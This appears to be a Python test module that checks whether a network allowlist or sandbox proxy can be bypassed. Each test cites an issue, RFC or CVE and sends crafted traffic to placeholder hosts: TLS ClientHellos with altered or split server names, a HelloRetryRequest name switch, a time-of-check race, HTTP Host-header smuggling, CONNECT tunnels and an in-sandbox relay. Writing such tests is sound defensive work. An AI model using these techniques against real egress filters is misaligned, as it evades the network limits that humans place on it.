"""Attempts by what is said in a connection to an allowed host."""
import mmap, os, select, socket, struct, time

from attempts import (CONNECTED, OTHER, SEEN_TLS, address_of, attempt, counted, extension, handshake, hello, http,
                      quietly, record, send, sni, tcp)

# A key of X25519, and what TLS 1.3 takes besides it (RFC 8446, 9.2).
KEY = bytes.fromhex("2fe57da347cd62431528daac5fbb290730fff684afc4cfc2ed90995f58cb3b74")
NEEDED = extension(43, counted(b"\3\4", 1)) + extension(10, counted(b"\0\x1d")) + extension(13, counted(b"\4\3"))
EARLY_DATA = extension(42, b"")


@attempt("github/gh-aw-firewall#8878: enforce TLS SNI allowlist", seen=CONNECTED)
def another_server_name():
    hello([b"shared.example"]), hello([b"other.example"]), hello([b"www.wild.example"])


@attempt("docker/sbx-releases#605: Direct requests without SNI do not go to the upstream proxy", seen=CONNECTED)
def no_server_name():
    hello([]), hello([b""])


@attempt("RFC 6066, 3: Server Name Indication: one name of each type", seen=CONNECTED)
def two_server_names():
    hello([b"allowed.example", b"shared.example"]), hello([b"shared.example", b"allowed.example"])


@attempt("NVIDIA/OpenShell#1498: regression coverage for proxy hostname parser differentials", seen=CONNECTED)
def server_names_with_odd_characters():
    for name in (b"shared.example\0.allowed.example", b"allowed.example\0.shared.example", b"allowed.example/",
                 b" allowed.example", b"allowed.example ", b"allowed..example", b"shared.example.allowed.example"):
        hello([name])


@attempt("juewuy/ShellCrash#793: TLS clientHello Packet Fragmentation", seen=CONNECTED)
def another_server_name_in_pieces():
    hello([b"shared.example"], pieces=1), hello([b"shared.example"], pieces=7, pause=0.05)


@attempt("RFC 8446, 4.2: no more than one extension of the same type", seen=CONNECTED)
def another_server_name_behind_a_second_extension():
    entry = b"\0" + struct.pack(">H", 14) + b"shared.example"
    more = struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    hello([b"allowed.example"], extensions=more), hello([], extensions=more)


@attempt("vm0-ai/vm0#21263: non-HTTP traffic is forwarded as raw TCP", seen=CONNECTED)
def no_tls_on_its_port():
    send("allowed.example", 443, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
    send("allowed.example", 443, b"SSH-2.0-x\r\n"), send("allowed.example", 443, bytes(100))


@attempt("RFC 8446, 5.1: Record Layer: lengths and fragments", seen=CONNECTED)
def records_without_end():
    send("allowed.example", 443, b"\x16\3\1\x40\0\1\0\xff\xff" + bytes(40000), pieces=4000)


@attempt("archie-judd/agent-sandbox.nix#105: the Host header is not checked against the CONNECT authority",
         seen=CONNECTED)
def another_host():
    for head in ("Host: shared.example", "host:shared.example", "HOST:\tshared.example", "Host: other.example:80",
                 "Host: allowed.example@shared.example", "Host: allowed.example.shared.example", "Host: ", "X: y",
                 "Host: allowed.example\r\nHost: shared.example", "Host: shared.example\r\nHost: allowed.example",
                 "Host : allowed.example", "Host: allowed.example, shared.example", "Host: allowed.example\0shared"):
        http(f"GET / HTTP/1.1\r\n{head}\r\n\r\n")


@attempt("RFC 9112, 3.2.2: absolute-form: the Host of the request is ignored", seen=CONNECTED)
def another_target():
    for target in ("http://shared.example/", "HTTP://Shared.Example/", "http://allowed.example@shared.example/"):
        http(f"GET {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    http("CONNECT shared.example:443 HTTP/1.1\r\nHost: shared.example:443\r\n\r\n")


@attempt("RFC 9112, 5.2: Obsolete Line Folding", seen=CONNECTED)
def requests_in_old_forms():
    for head in ("GET /\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "GET / HTTP/1.1\n\nHost: allowed.example\n\n",
                 "GET / HTTP/1.1\r\nX: y\r\n Host: allowed.example\r\n\r\n", "\0\0\0\0\r\n\r\n"):
        http(head)


@attempt(seen=CONNECTED)
def a_head_without_end():
    send("allowed.example", 80, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000, pieces=60000)


# A server of TLS 1.3 that finds no key in the first ClientHello asks for a second one, and goes by its server name.
def second_hello(more, between, at_once, name=b"shared.example"):
    first = record(handshake(sni(b"allowed.example") + NEEDED + extension(51, counted(b"")) + more))
    second = record(handshake(sni(name) + NEEDED + extension(51, counted(b"\0\x1d" + counted(KEY)))))

    def talk():
        with socket.create_connection(("allowed.example", 443), timeout=5) as s:
            s.sendall(first + (between + second if at_once else b""))
            s.recv(4096)
            if not at_once:
                s.sendall(between + second)
            s.recv(4096), s.recv(4096)

    quietly(talk)


@attempt(seen=SEEN_TLS, control=["name allowed.example"] * 4)
def the_same_name_when_asked_again():
    second_hello(b"", record(b"\1", 20), False, b"allowed.example")
    second_hello(EARLY_DATA, record(b"x" * 50, 23), True, b"allowed.example")


@attempt("openssl/openssl#32472: Detect server_name changes across TLS 1.3 HelloRetryRequest", seen=SEEN_TLS)
def another_name_when_asked_again():
    second_hello(b"", b"", False), second_hello(b"", record(b"\1", 20), False)


@attempt("openssl/openssl#32472: Detect server_name changes across TLS 1.3 HelloRetryRequest", seen=SEEN_TLS)
def another_name_before_asked_again():
    second_hello(b"", b"", True), second_hello(EARLY_DATA, record(b"x" * 50, 23), True)


# The name is looked up for a second, and what was said waits for so long.
SLOW = ["--connect", "slow.example"]
SEEN_SLOW = [*SEEN_TLS[:2], "question slow.example", "name slow.example"]


@attempt("CWE-367: Time-of-check Time-of-use Race Condition", SLOW, SEEN_SLOW, ["name slow.example"])
def another_name_in_pages_that_were_looked_at():
    judged, forwarded = (record(handshake(sni(name) + NEEDED)) for name in (b"slow.example", b"wild.example"))
    pages = os.memfd_create("pages")
    os.ftruncate(pages, mmap.PAGESIZE)

    def talk(then):
        with mmap.mmap(pages, mmap.PAGESIZE) as mapped, socket.socket() as s:
            mapped[: len(judged)] = judged
            s.setblocking(False)
            s.connect_ex((address_of("slow.example"), 443))
            select.select([], [s], [], 5)
            os.sendfile(s.fileno(), pages, 0, len(judged))
            time.sleep(0.3)
            mapped[: len(then)] = then
            s.settimeout(5)
            s.recv(100)

    for then in (judged, forwarded):
        quietly(lambda: talk(then))


@attempt("RFC 8446, 5.1: Record Layer: messages of one type in one record", seen=CONNECTED)
def two_hellos_in_a_record():
    both = handshake(sni(b"allowed.example")) + handshake(sni(b"shared.example"))
    send("allowed.example", 443, record(both)), send("allowed.example", 443, record(both), pieces=100, pause=0.05)


@attempt("RFC 8446, 5: Record Protocol: a record of another type between parts of a message", seen=CONNECTED)
def other_records_before_a_hello():
    message = record(handshake(sni(b"shared.example")))
    for first in (record(b"\1", 20), record(b"\1\0", 21), record(b"x", 23), record(b"x", 24)):
        send("allowed.example", 443, first + message)
    good = handshake(sni(b"allowed.example"))
    send("allowed.example", 443, record(good[:20]) + record(b"\1\0", 21) + record(good[20:]) + message)


@attempt("imputnet/helium#2298: TLS ClientHello splitting over records", seen=CONNECTED)
def another_server_name_in_small_records():
    message = handshake(sni(b"shared.example"))
    for size in (1, 5, 40):
        parts = b"".join(record(message[at : at + size]) for at in range(0, len(message), size))
        send("allowed.example", 443, parts), send("allowed.example", 443, parts, pieces=3)


@attempt("RFC 6176: Prohibiting SSL Version 2.0", seen=CONNECTED)
def a_hello_of_ssl_2():
    body = b"\1\3\1" + struct.pack(">HHH", 3, 0, 16) + b"\0\0\x2f" + bytes(16)
    send("allowed.example", 443, struct.pack(">H", 0x8000 | len(body)) + body)


@attempt("net4people/bbs#393: Cloudflare has enabled ECH (staged): one public name for all", seen=CONNECTED)
def a_public_name_of_encrypted_hellos():
    hidden = extension(0xFE0D, b"\0\0\1\0\1\0" + counted(bytes(32)) + counted(bytes(200)))
    hello([b"cloudflare-ech.com"], extensions=hidden), hello([], extensions=hidden)


@attempt("RFC 9112, 3.2: Request Target: more than one Host is an error", seen=CONNECTED)
def two_hosts():
    for first, second in (("allowed", "shared"), ("shared", "allowed"), ("allowed", "allowed")):
        http(f"GET / HTTP/1.1\r\nHost: {first}.example\r\nX: y\r\nhost: {second}.example\r\n\r\n")


@attempt("CVE-2019-16276: Go: invalid headers are normalized, allowing request smuggling", seen=CONNECTED)
def a_space_before_the_colon():
    for head in ("Host : shared.example\r\nHost: allowed.example", "Host: allowed.example\r\nHost\t: shared.example",
                 "Host\0: shared.example\r\nHost: allowed.example", "\0Host: shared.example\r\nHost: allowed.example"):
        http(f"GET / HTTP/1.1\r\n{head}\r\n\r\n")


@attempt("RFC 9112, 2.2: Message Parsing: a bare CR, lines and spaces in front", seen=CONNECTED)
def lines_that_end_otherwise():
    for data in ("GET / HTTP/1.1\rHost: shared.example\r\nHost: allowed.example\r\n\r\n",
                 "\r\nGET / HTTP/1.1\r\nHost: shared.example\r\n\r\n",
                 "GET / HTTP/1.1\r\n Host: shared.example\r\nHost: allowed.example\r\n\r\n",
                 "GET / HTTP/1.1\r\nX: y\rHost: shared.example\r\nHost: allowed.example\r\n\r\n"):
        http(data)


@attempt("CVE-2022-32214: Node: HTTP Request Smuggling - Improper Delimiting of Header Fields", seen=CONNECTED)
def lines_that_end_in_lf():
    # To whoever ends lines at CRLF only, the first Host is a part of the value in front.
    http("GET / HTTP/1.1\r\nX: y\nHost: allowed.example\n\n\r\nHost: shared.example\r\n\r\n")
    http("GET / HTTP/1.1\nHost: allowed.example\n\n")


@attempt("alpha-omega-security/scrutineer#1034: refuse CONNECT tunnels to the host skill API", seen=CONNECTED)
def a_tunnel_by_the_host():
    for target in ("allowed.example:443", "shared.example:443", "127.0.0.1:80"):
        http(f"CONNECT {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n")


@attempt("RFC 9113, 3.3: HTTP/2 with prior knowledge: no Host at all", seen=CONNECTED)
def http_2_without_tls():
    settings = b"\0\0\0\4\0\0\0\0\0"
    send("allowed.example", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings)


@attempt("RFC 6093: On the Implementation of the TCP Urgent Mechanism", seen=CONNECTED)
def urgent_bytes():
    def talk(first, urgent, rest, port):
        with socket.create_connection(("allowed.example", port), timeout=3) as s:
            s.sendall(first)
            s.send(urgent, socket.MSG_OOB)
            s.sendall(rest)
            s.recv(100)

    # Without the urgent byte, or with it, this is another host.
    quietly(lambda: talk(b"GET / HTTP/1.1\r\nHost: ", b"x", b"allowed.example\r\n\r\n", 80))
    quietly(lambda: talk(b"GET / HTTP/1.1\r\nHost: share", b"d", b".example\r\n\r\n", 80))
    message = record(handshake(sni(b"shared.example")))
    quietly(lambda: talk(message[:60], message[60:61], message[61:], 443))


@attempt("anthropics/claude-code#40213: allowedDomains not enforced for plain HTTP")
def plain_http_to_another_host():
    for name in ("other.example", "closed.example"):
        send(name, 80, f"GET /?secret HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
    tcp(OTHER, 80, b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")


@attempt("anthropics/claude-code#87381: network allowlist bypassed via in-sandbox relayed CONNECT", seen=CONNECTED)
def a_relay_inside():
    ready, relay = os.pipe()
    if os.fork() == 0:
        with socket.create_server(("127.0.0.1", 8080)) as server:
            os.write(relay, b"x")
            for host, port in ((OTHER, 80), ("allowed.example", 80), ("allowed.example", 443)):
                client, _ = server.accept()
                quietly(lambda: socket.create_connection((host, port), timeout=3).sendall(client.recv(1000)))
                client.close()
        os._exit(0)
    os.close(relay)
    os.read(ready, 1)
    for _ in range(3):
        tcp("127.0.0.1", 8080, b"CONNECT shared.example:443 HTTP/1.1\r\nHost: shared.example:443\r\n\r\n")
    os.wait()
